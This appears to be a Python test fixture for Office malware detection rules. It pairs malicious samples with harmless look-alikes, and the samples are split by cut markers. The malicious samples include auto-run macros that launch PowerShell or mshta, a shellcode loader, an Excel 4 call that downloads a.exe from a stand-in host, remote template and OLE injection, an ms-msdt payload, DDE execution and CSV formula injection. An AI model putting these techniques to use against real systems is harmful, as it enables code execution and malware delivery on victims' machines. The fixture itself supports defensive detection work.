"""Samples of macros and Office documents, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-OFF-0009": [joined("%PDF-1.7\n1 0 obj<</Type/Font/FontMat¦rix [0.1 0 0 0.1 0 (1); f\\(\\))]>>endobj")],
    "RG-OFF-0010": [joined("%!P¦S-Adobe-3.0 EPSF-3.0\n(%pi¦pe%id) (w) file\n")],
    "RG-OFF-0011": [joined('<p:sld><a:hlinkMouseOver r:id="r1" action="ppac¦tion://program"/></p:sld>')],
    "RG-MAC-0001": [
        joined('Sub Au¦toOpen()\r\n She¦ll "power¦shell -c x", 0\r\nEnd Sub\r\n'),
        joined('Private Sub Work¦book_Open()\r\n CreateObject("WSc¦r¦ip¦t.Shell").R¦u¦n "ms¦hta x"\r\nEnd Sub\r\n'),
    ],
    "RG-MAC-0002": [
        joined(
            "Private Declare PtrSafe Func¦tion A Lib "
            '"kernel32" Alias "Virtua¦lAlloc" (x As Long) As Long\r\n'
            "RtlMov¦eMemory p, b, 3\r\n"
            "Create¦Thread 0, 0, p, 0, 0, 0\r\n"
        ),
    ],
    "RG-MAC-0003": [
        joined('Set o = CreateObjec¦t(StrReverse("llehS.tpircSW"))\r\n'),
        joined('Set o = CreateObject(C¦hr(87) & Chr(83) & "cript.Shell")\r\n'),
    ],
    "RG-MAC-0004": [
        joined(
            "Sub Docu¦ment_Open()\r\n"
            " NormalT¦emplate.VBProject.V¦BComponents(1).CodeModule.AddFro¦mString s\r\n"
            "End Sub\r\n"
        ),
    ],
    "RG-MAC-0005": [
        joined(
            'w.RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Sec¦urity\\VBAWarnings", 1, "REG_DWORD"\r\n'
        ),
    ],
    "RG-MAC-0006": [
        joined(
            '<scrip¦t:module xmlns:script="http://openoffice.org/2000/script">Sub x\n'
            " She¦ll(\"b¦ash -c 'id'\")\n"
            "End Sub</script:module>"
        ),
    ],
    "RG-MAC-0007": [
        joined('=EXE¦C("cm¦d.e¦xe /c calc")\r\n'),
        joined('=CALL("u¦rlmon","URLDownl¦oadToFileA","JJCCJJ",0,"http://x.invalid/a","a.exe",0,0)\r\n'),
    ],
    "RG-MAC-0008": [
        joined("Aut¦o_Open\r\n=FOR¦MULA(CHAR(61)&CHAR(6¦9)&CHAR(8¦8)&CHAR(69)&CHAR(67),A2)\r\n"),
    ],
    "RG-OFF-0001": [
        joined(
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/offi'
            "ceDocument/2006/relationships/attached¦Templ"
            'ate" Target="http://x.invalid/a.dotm" TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0002": [
        joined(
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/offi'
            'ceDocument/2006/relationships/ole¦Object" '
            'Target="https://x.invalid/a" TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0003": [
        joined(
            '<Relationship Id="r" Typ¦e="t/oleObject" '
            'Targ¦et="mhtml:http://x.invalid/a.html!x-usc'
            ':http://x.invalid/a.html" TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0004": [
        joined(
            '<script>location.href = "ms-msdt:/id '
            "PCWDiagnostic /skip f¦o¦r¦c¦e /p¦a¦r¦a¦m "
            '\\"I¦T_R¦e¦browseForFile=? IT_BrowseForFile=$(calc)\\"";</script>'
        ),
        joined('<a href="search-ms:query=a&c¦rumb=location:\\\\192.0.2.1\\x">x</a>'),
    ],
    "RG-OFF-0005": [
        joined('<w:inst¦rText>DDEAUTO "C:\\\\Window¦s\\\\System32\\\\cm¦d.exe" "/c x"</w:inst¦rText>'),
    ],
    "RG-OFF-0006": [
        joined("name,amount\n=cm¦d|' /C calc'!A0,1\n"),
    ],
    "RG-OFF-0007": [
        joined("{\\rtf1{\\*\\templ¦ate http://x.invalid/a.dotm}}"),
    ],
    "RG-OFF-0008": [
        joined("{\\rtf1{\\object\\objemb\\obju¦pdate{\\*\\obj¦data 01050000 0200000 4571756174¦696f6e2e33}}}"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-OFF-0009": [b"%PDF-1.7\n1 0 obj<</Type/Font/FontMatrix [0.001 0 0 0.001 0 0]/Name (a)>>endobj"],
    "RG-OFF-0010": [
        b"%!PS-Adobe-3.0 EPSF-3.0\n(%stdin) (r) file\n(pipe) show\n",
        b"The device (%pi" + b"pe%lpr) prints.\n",
    ],
    "RG-OFF-0011": [b'<p:sld><a:hlinkClick r:id="r1" action="ppaction://hlinksldjump"/></p:sld>'],
    "RG-MAC-0001": [
        joined('Sub Au¦toOpen()\r\n MsgBox "Welcome"\r\nEnd Sub\r\n'),
        joined('Sub Convert()\r\n She¦ll "cm¦d /c dir"\r\nEnd Sub\r\n'),
    ],
    "RG-MAC-0002": [
        joined('Private Declare PtrSafe Su¦b Sleep Lib "kernel32" (ByVal ms As Long)\r\n'),
    ],
    "RG-MAC-0003": [
        joined('Set o = CreateObject("Scripting.Dictionary")\r\ns = StrReverse("abc")\r\n'),
    ],
    "RG-MAC-0004": [
        joined('Sub Export()\r\n ActiveD¦ocument.VBProject.V¦BComponents(1).Export "m.bas"\r\nEnd Sub\r\n'),
    ],
    "RG-MAC-0005": [
        joined('w.RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\Zoom", 1\r\n'),
    ],
    "RG-MAC-0006": [
        joined(
            '<scrip¦t:module xmlns:script="http://openoffice.org/2000/script">Sub x\n'
            ' MsgBox "bash -c"\n'
            "End Sub</script:module>"
        ),
    ],
    "RG-MAC-0007": [
        joined('=SUM(A1:A9)\r\n=CALL("mylib.dll","add","JJJ",1,2)\r\n'),
    ],
    "RG-MAC-0008": [
        joined("=A1&CHAR(10)&B1&CHAR(10)&C1\r\n"),
    ],
    "RG-OFF-0001": [
        joined(
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/rela'
            'tionships/attachedTemplate" Target="file:///C:\\Templates\\Letter.dotx" '
            'TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0002": [
        joined(
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/rela'
            'tionships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0003": [
        joined(
            '<Relationship Id="r" Ty¦p¦e="t/o¦leObject" Target="mhtml:http://x.invalid/a.html" TargetMode="External"/>'
        ),
    ],
    "RG-OFF-0004": [
        joined('<a href="search-ms:query=report&crumb=location:C:\\Users">x</a>'),
        joined("The handler ms-msdt: starts the support tool."),
    ],
    "RG-OFF-0005": [
        joined('<w:inst¦rText>DDE Excel "report.xlsx" "Sheet1!R1C1"</w:inst¦rText>'),
        joined("DDEAUT¦O cm¦d.exe is a field that starts a program"),
    ],
    "RG-OFF-0006": [
        joined("name,amount\n=A1+B1,-cmd\n"),
        joined("+1|2\n"),
    ],
    "RG-OFF-0007": [
        joined("{\\rtf1{\\*\\template C:\\\\Templates\\\\a.dot}}"),
    ],
    "RG-OFF-0008": [
        joined("{\\rtf1{\\object\\objemb{\\*\\objclass Equat¦ion.3}{\\*\\obj¦data 0105}}}"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
